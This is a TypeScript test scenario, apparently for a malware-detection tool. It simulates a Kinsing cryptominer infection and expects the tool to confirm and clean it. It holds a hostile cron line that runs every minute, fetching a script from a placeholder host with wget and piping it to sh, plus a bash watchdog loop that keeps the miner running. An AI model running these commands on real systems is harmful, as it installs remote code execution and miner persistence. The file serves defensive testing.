import { scenario } from '../scenario.ts';
import { addCron, dropHost } from '../words.ts';

export default scenario({
  what: 'kinsing and kdevtmpfsi',
  report: 'Kinsing: a loader every minute, the guard in /tmp, a service account.',
  plant: {
    images: [{ path: '/tmp/kdevtmpfsi', owner: 'www-data' }],
    files: {
      '/tmp/kinsing': {
        text: `#!/bin/bash
while true; do
  pgrep -x kdevtmpfsi >/dev/null || { cd /tmp; ./kdevtmpfsi >/dev/null 2>&1 & }
  sleep 1
done
`,
        owner: 'www-data',
      },
    },
    start: `${addCron('www-data', [`* * * * * wget -q -O - http://${dropHost}/unk.sh | sh > /dev/null 2>&1`])}
as www-data /tmp/kinsing`,
    runs: ['/tmp/kdevtmpfsi', '/tmp/kinsing'],
  },
  expect: {
    verdict: 'confirmed',
    ticked: {
      processes: ['/tmp/kinsing', '/tmp/kdevtmpfsi'],
      files: ['/tmp/kinsing', '/tmp/kdevtmpfsi'],
      starters: [`* * * * * wget -q -O - http://${dropHost}/unk.sh | sh > /dev/null 2>&1`],
    },
    resolution: 'cleaned',
  },
});
